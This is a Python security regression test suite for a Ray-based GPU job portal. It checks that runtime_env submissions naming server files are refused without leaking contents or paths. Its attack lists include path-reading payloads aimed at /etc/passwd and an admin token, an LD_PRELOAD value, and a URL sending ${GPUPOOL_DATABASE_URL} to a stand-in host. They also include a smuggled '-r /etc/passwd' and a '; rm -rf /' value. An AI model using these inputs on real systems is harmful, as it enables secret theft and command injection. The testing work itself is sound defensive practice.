"""runtime_env attacks: a researcher making the server read its own files for them.

Issue 8, item 1. A runtime_env such as ``{"pip": "<data dir>/admin.token"}`` used to be accepted:
Ray's own runtime_env parsing read the file on the server, and the failed job's reason quoted it,
so the admin token leaked in one request; ``conda``, ``uv`` and ``pip`` paths also answered
whether a file existed and quoted its lines in 400s at submit. Now a runtime_env may hold only
what ``quotas.runtime_env`` allows, in forms that name no path, and is checked without reading
anything, by both submit APIs and again by the Ray backend before a job reaches Ray.

Each attack runs through the public API of the seeded demo pool (``tests/portal``) as jiwoo.jung,
a researcher in kaist-nlp, and checks the refusal (400), that the answer quotes neither the token,
nor the files' contents, nor the path, and that no job was written.
"""

from __future__ import annotations

import asyncio
import hashlib
import io
import string
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from jobs.repository import JobRepository
from quotas.errors import InvalidRuntimeEnv
from quotas.runtime_env import (
    RESERVED_NAMES,
    RESERVED_PREFIXES,
    RESERVED_SUFFIXES,
    checked_runtime_env,
    is_requirement,
    is_reserved_env_var,
)
from scheduler.backends.base import LaunchSpec, PermanentBackendError
from scheduler.backends.ray import RayBackend
from tests.portal.conftest import Demo

RESEARCHER = "jiwoo.jung"  # kaist-nlp (and hanbit-robot-policy)
PROJECT = "kaist-nlp"
SECRET = "secret-from-the-host-4b1d"


# -- the attacks --------------------------------------------------------------------------------


def host_files(demo: Demo) -> dict[str, Path]:
    """Files on the server a tenant must never see: the admin token, a system file, a conda
    environment file and a requirements file holding a secret, and one that does not exist."""
    data_dir = Path(demo.settings.data_dir)
    (data_dir / "environment.yaml").write_text(f"name: {SECRET}\ndependencies:\n  - {SECRET}\n")
    (data_dir / "requirements.txt").write_text(f"{SECRET}==1.0\n")
    return {
        "token": data_dir / "admin.token",
        "passwd": Path("/etc/passwd"),
        "conda": data_dir / "environment.yaml",
        "requirements": data_dir / "requirements.txt",
        "missing": data_dir / "no-such-file.txt",
    }


def attacks(files: dict[str, Path]) -> list[dict[str, Any]]:
    paths = [str(path) for path in files.values()]
    by_path: list[dict[str, Any]] = []
    for path in paths:
        by_path += [
            {"pip": path},
            {"uv": path},
            {"conda": path},
            {"working_dir": path},
            {"py_modules": [path]},
            {"pip": [f"-r {path}"]},
            {"pip": ["-r", path]},
            {"uv": [f"--requirement={path}"]},
            {"pip": [f"anything @ file://{path}"]},
            {"pip": {"packages": ["torch"], "pip_install_options": ["-r", path]}},
            {"uv": {"packages": ["torch"], "uv_pip_install_options": ["-c", path]}},
            {"conda": {"dependencies": [path]}},
            {"conda": {"dependencies": ["python=3.11", {"pip": [f"-r {path}"]}]}},
            {"conda": {"channels": [f"file://{path}"], "dependencies": ["numpy"]}},
            {"conda": {"prefix": path, "dependencies": ["numpy"]}},
            {"py_executable": path},
            {"java_jars": [path]},
        ]
    return [
        *by_path,
        {"pip": ["--index-url=https://mirror.invalid/simple", "torch"]},
        {"pip": ["torch", "--extra-index-url", "https://mirror.invalid/simple"]},
        {"pip": ["torch @ https://mirror.invalid/${GPUPOOL_DATABASE_URL}"]},
        {"pip": ["torch\n-r /etc/passwd"]},
        {"env_vars": {"RAY_ADDRESS": "ray://mirror.invalid:10001"}},
        {"env_vars": {"CUDA_VISIBLE_DEVICES": "0,1,2,3,4,5,6,7"}},
        {"env_vars": {"LD_PRELOAD": paths[0]}},
        {"env_vars": {"PYTHONPATH": paths[0]}},
        {"env_vars": {"NVIDIA_VISIBLE_DEVICES": "all"}},
        {"env_vars": {"A=B": "x"}},
        {"container": {"image": "docker.io/library/python"}},
        {"image_uri": "docker.io/library/python"},
        {"config": {"setup_timeout_seconds": 1}},
        {"plugins": {"my_plugin": {}}},
        {"worker_process_setup_hook": "os.system"},
        {"_inject_current_ray": True},
    ]


def leaked(body: str, files: dict[str, Path], admin_token: str) -> list[str]:
    """What of the host the answer quotes: the token, a line of a file, or a path."""
    found = [admin_token] if admin_token in body else []
    found += [SECRET] if SECRET in body else []
    first = files["passwd"].read_text().splitlines()[0]
    found += [first] if first in body else []
    found += [str(path) for path in files.values() if str(path) in body]
    found += [str(files["token"].parent)] if str(files["token"].parent) in body else []
    return found


def count_jobs(demo: Demo) -> int:
    with demo.books() as books:
        return len(JobRepository(books.session).find())


def submit_v1(demo: Demo, runtime_env: object) -> httpx.Response:
    body = {"project": PROJECT, "entrypoint": "python train.py", "runtime_env": runtime_env}
    return demo.client.post("/api/v1/jobs", json=body, headers=demo.headers(RESEARCHER))


def submit_ray(demo: Demo, runtime_env: object) -> httpx.Response:
    body = {
        "entrypoint": "python train.py",
        "runtime_env": runtime_env,
        "metadata": {"project": PROJECT},
    }
    return demo.client.post("/api/jobs/", json=body, headers=demo.headers(RESEARCHER))


SUBMITS: dict[str, Callable[[Demo, object], httpx.Response]] = {
    "/api/v1/jobs": submit_v1,
    "/api/jobs/": submit_ray,
}


@pytest.mark.parametrize("api", SUBMITS)
def test_a_runtime_env_naming_server_files_is_refused_and_quotes_nothing(
    demo: Demo, api: str
) -> None:
    files = host_files(demo)
    before = count_jobs(demo)

    for runtime_env in attacks(files):
        answer = SUBMITS[api](demo, runtime_env)
        assert answer.status_code == 400, (runtime_env, answer.text)
        assert answer.headers["content-type"] == "application/problem+json"
        assert "runtime_env" in answer.json()["detail"]
        assert leaked(answer.text, files, demo.admin_token) == [], runtime_env

    assert count_jobs(demo) == before


@pytest.mark.parametrize("api", SUBMITS)
def test_an_existing_and_a_missing_file_answer_alike(demo: Demo, api: str) -> None:
    """No file-existence oracle: the same refusal whether the path is there or not."""
    files = host_files(demo)
    for field in ("pip", "uv", "conda", "working_dir"):
        answers = {
            SUBMITS[api](demo, {field: str(files[name])}).json()["detail"]
            for name in ("token", "conda", "requirements", "missing")
        }
        assert len(answers) == 1, answers


@pytest.mark.parametrize("api", SUBMITS)
def test_a_runtime_env_a_tenant_may_set_is_queued_as_given(demo: Demo, api: str) -> None:
    runtime_env = {  # as Ray's client sends pip, with the env_vars a training job sets
        "pip": {"packages": ["torch>=2.1", "numpy==1.26.*"], "pip_check": False},
        "_ray_commit": "b7f4259e944bf6959f721b106adc366ddfa0c356",
        "env_vars": {"OMP_NUM_THREADS": "8", "NCCL_DEBUG": "INFO", "HF_HOME": "/scratch/hf"},
    }
    answer = SUBMITS[api](demo, runtime_env)
    assert answer.status_code in (200, 201), answer.text
    with demo.books() as books:
        (job,) = JobRepository(books.session).find()
    assert job.spec.runtime_env == runtime_env


def test_an_uploaded_working_dir_is_still_renamed_by_its_content(demo: Demo) -> None:
    """The one form of working_dir a tenant may use: a package they uploaded themselves."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("train.py", "print('hello')")
    content = buffer.getvalue()
    uri = "gcs://_ray_pkg_0123456789abcdef.zip"
    headers = demo.headers("dohyun.choi")  # one project: uploads are charged to it
    uploaded = demo.client.put(
        "/api/packages/gcs/_ray_pkg_0123456789abcdef.zip", content=content, headers=headers
    )
    assert uploaded.status_code == 200, uploaded.text

    answer = demo.client.post(
        "/api/jobs/",
        json={"entrypoint": "python train.py", "runtime_env": {"working_dir": uri}},
        headers=headers,
    )

    assert answer.status_code == 200, answer.text
    with demo.books() as books:
        (job,) = JobRepository(books.session).find()
    digest = hashlib.sha256(content).hexdigest()
    assert job.spec.runtime_env == {"working_dir": f"gcs://_ray_pkg_{digest}.zip"}


# -- defence in depth: the Ray backend checks again before anything reaches Ray ----------------


def test_a_runtime_env_stored_before_the_rules_never_reaches_ray(tmp_path: Path) -> None:
    token = tmp_path / "admin.token"
    token.write_text("gpp_admin_secret")
    sent: list[httpx.Request] = []

    def ray(request: httpx.Request) -> httpx.Response:
        sent.append(request)
        return httpx.Response(200, json={"submission_id": "gp-1"})

    async def dispatch(runtime_env: dict[str, object]) -> str:
        spec = LaunchSpec(
            job_id="gp-old",
            project=PROJECT,
            entrypoint="python train.py",
            gpus=1,
            flavor="h100-80g",
            time_limit_seconds=3600,
            runtime_env=runtime_env,
        )
        async with RayBackend("http://ray.invalid", transport=httpx.MockTransport(ray)) as backend:
            with pytest.raises(PermanentBackendError) as refused:
                await backend.submit(spec)
        return str(refused.value)

    for runtime_env in (
        {"pip": str(token)},
        {"conda": str(token)},
        {"working_dir": str(tmp_path)},
        {"env_vars": {"RAY_ADDRESS": "ray://mirror.invalid:10001"}},
        {"image_uri": "docker.io/library/python"},
    ):
        reason = asyncio.run(dispatch(runtime_env))
        assert "gp-old" in reason
        assert "runtime_env" in reason
        assert str(tmp_path) not in reason
        assert "gpp_admin_secret" not in reason
    assert sent == []  # nothing was asked of Ray


# -- the rules themselves -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "runtime_env",
    [
        {},
        {"pip": ["torch>=2.1", "transformers[torch]==4.44.0; python_version >= '3.10'"]},
        {"pip": ["flash-attn @ https://example.org/flash_attn-2.6.3-cp311-linux_x86_64.whl"]},
        {"pip": ["mylib @ git+https://example.org/mylib.git@v1.0"]},
        {"pip": {"packages": ["torch"], "pip_version": "==24.0", "pip_check": True}},
        {"pip": {"packages": ["torch"], "pip_install_options": ["--no-cache-dir"]}},
        {"uv": ["torch"]},
        {
            "uv": {
                "packages": ["torch"],
                "uv_check": False,
                "uv_pip_install_options": ["--no-cache"],
            }
        },
        {
            "conda": {
                "name": "train",
                "channels": ["conda-forge", "https://conda.anaconda.org/pytorch"],
                "dependencies": ["python=3.11", "numpy>=1.26", "pytorch::pytorch", {"pip": ["x"]}],
            }
        },
        {"env_vars": {"OMP_NUM_THREADS": "8", "HOME": "/scratch", "_private": ""}},
        {"working_dir": "gcs://_ray_pkg_0123456789abcdef.zip", "excludes": ["*.ckpt", "data/"]},
        {"py_modules": ["gcs://_ray_pkg_a.zip", "gcs://mylib-0.1-py3-none-any.whl"]},
    ],
)
def test_what_a_tenant_may_set(runtime_env: dict[str, object]) -> None:
    assert checked_runtime_env(runtime_env) == runtime_env


@pytest.mark.parametrize(
    ("runtime_env", "why"),
    [
        ("/etc/passwd", "must be an object"),
        ({"pip": "requirements.txt"}, "a requirements file is refused"),
        ({"pip": ["./local/pkg"]}, r"pip\[0\] is not a requirement"),
        ({"pip": ["x @ http://example.org/x.whl"]}, r"pip\[0\] is not a requirement"),
        ({"pip": ["x @ https:///etc/passwd"]}, r"pip\[0\] is not a requirement"),
        ({"pip": {"packages": ["x"], "pip_version": "; rm -rf /"}}, "pip.pip_version"),
        ({"pip": {"packages": ["x"], "pip_check": "yes"}}, "pip.pip_check"),
        ({"pip": {"pip_check": True}}, "needs packages"),
        ({"uv": {"packages": ["x"], "uv_pip_install_options": ["--index-url=x"]}}, "--no-cache"),
        ({"pip": ["x"] * 201}, "at most 200"),
        ({"conda": "my-env"}, "inline environment"),
        ({"conda": {"variables": {"LD_PRELOAD": "x"}}}, "name, channels and dependencies"),
        ({"conda": {"dependencies": ["numpy-1.0-0.tar.bz2"]}}, "package files"),
        ({"conda": {"dependencies": [{"pip": ["x"]}, {"pip": ["y"]}]}}, "one {'pip'"),
        ({"conda": {"name": "../env"}}, "conda.name"),
        ({"working_dir": "s3://bucket/code.zip"}, "package you uploaded"),
        ({"working_dir": "gcs://../x.zip"}, "package you uploaded"),
        ({"py_modules": "gcs://_ray_pkg_a.zip"}, "py_modules must be a list"),
        ({"env_vars": {"ray_address": "x"}}, "may not set ray_address"),
        ({"env_vars": {"ROCR_VISIBLE_DEVICES": "0"}}, "may not set ROCR_VISIBLE_DEVICES"),
        ({"env_vars": {"PATH": "/tmp"}}, "may not set PATH"),
        ({"env_vars": {"X": 1}}, "env_vars X must be a string"),
        ({"env_vars": {"X": "a\x00b"}}, "env_vars X must be a string"),
        ({"env_vars": {"1X": "x"}}, "no valid name"),
        ({"env_vars": {f"V{i}": "x" for i in range(129)}}, "at most 128"),
        ({"excludes": [""]}, r"excludes\[0\]"),
        ({"_ray_commit": "../../x"}, "_ray_commit"),
        ({"/etc/passwd": 1}, "may not set a field of that name"),
    ],
)
def test_what_a_tenant_may_not_set(runtime_env: object, why: str) -> None:
    with pytest.raises(InvalidRuntimeEnv, match=why):
        checked_runtime_env(runtime_env)


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=10), children, max_size=4)
    ),
    max_leaves=12,
)
FIELD = st.sampled_from(
    ["working_dir", "py_modules", "pip", "uv", "conda", "env_vars", "excludes", "_ray_commit"]
)


@settings(max_examples=300, deadline=None)
@given(st.dictionaries(FIELD | st.text(max_size=12), JSON, max_size=4) | JSON)
def test_any_value_is_either_allowed_as_it_is_or_refused_in_domain_words(value: object) -> None:
    outcome: object
    try:
        outcome = checked_runtime_env(value)
    except InvalidRuntimeEnv as refused:
        outcome = refused
    if isinstance(outcome, InvalidRuntimeEnv):
        assert str(outcome).startswith("runtime_env")
    else:
        assert outcome == value


PROBE = st.text(string.printable, max_size=16).map(lambda tail: f"/PROBE{tail}")
"""A path a tenant might try, marked so any echo of it shows."""


def probed(field: str) -> st.SearchStrategy[object]:
    """A value for ``field`` with a probe where a path would go."""
    return st.one_of(
        PROBE,
        st.lists(PROBE, min_size=1, max_size=3),
        st.lists(PROBE, min_size=1, max_size=3).map(lambda items: ["torch", *items]),
        st.builds(lambda probe: {"packages": [probe]}, PROBE),
        st.builds(lambda probe: {"dependencies": [probe]}, PROBE),
        st.builds(lambda probe: {"dependencies": [{"pip": [probe]}]}, PROBE),
        st.builds(lambda probe: {"channels": [probe]}, PROBE),
        st.builds(lambda probe: {probe: "x"}, PROBE),
        st.builds(lambda probe: {"LD_PRELOAD": probe}, PROBE),
    ).map(lambda value: {field: value})


PATH_FIELDS = st.sampled_from(["working_dir", "py_modules", "pip", "uv", "conda", "env_vars"])
"""Fields where a path could do harm (``excludes`` are patterns Ray's client alone applies)."""


@settings(max_examples=300, deadline=None)
@given(PATH_FIELDS.flatmap(probed) | PROBE.map(lambda probe: {probe: "x"}))
def test_a_refusal_never_echoes_the_value(runtime_env: dict[str, object]) -> None:
    with pytest.raises(InvalidRuntimeEnv) as refused:
        checked_runtime_env(runtime_env)
    assert "PROBE" not in str(refused.value)


NAME = st.from_regex(r"[A-Za-z]([A-Za-z0-9_.-]{0,18}[A-Za-z0-9])?", fullmatch=True)
VERSION = st.from_regex(r"[0-9]{1,3}(\.[0-9]{1,3}){1,2}", fullmatch=True)


@settings(max_examples=200, deadline=None)
@given(NAME, st.sampled_from(["", "==", ">=", "~=", "<"]), VERSION)
def test_plain_requirement_specifiers_are_requirements(name: str, op: str, version: str) -> None:
    requirement = f"{name}{op}{version}" if op else name
    assert is_requirement(requirement)
    assert checked_runtime_env({"pip": [requirement], "uv": [requirement]})


@settings(max_examples=200, deadline=None)
@given(NAME, st.sampled_from(["-r ", "--requirement=", "-c ", "-e ", "--index-url=", "./", "/"]))
def test_options_and_paths_are_never_requirements(name: str, prefix: str) -> None:
    assert not is_requirement(f"{prefix}{name}")


ENV_TAIL = st.from_regex(r"[A-Za-z0-9_]{0,12}", fullmatch=True)
ENV_HEAD = st.from_regex(r"([A-Za-z_][A-Za-z0-9_]{0,12})?", fullmatch=True)


@settings(max_examples=300, deadline=None)
@given(
    st.one_of(
        st.builds(lambda prefix, tail: prefix + tail, st.sampled_from(RESERVED_PREFIXES), ENV_TAIL),
        st.builds(lambda head, suffix: head + suffix, ENV_HEAD, st.sampled_from(RESERVED_SUFFIXES)),
        st.sampled_from(sorted(RESERVED_NAMES)),
    ),
    st.booleans(),
)
def test_reserved_env_vars_are_refused_in_any_case(name: str, lower: bool) -> None:
    name = name.lower() if lower else name
    assert is_reserved_env_var(name)
    with pytest.raises(InvalidRuntimeEnv, match="may not set"):
        checked_runtime_env({"env_vars": {name: "x"}})
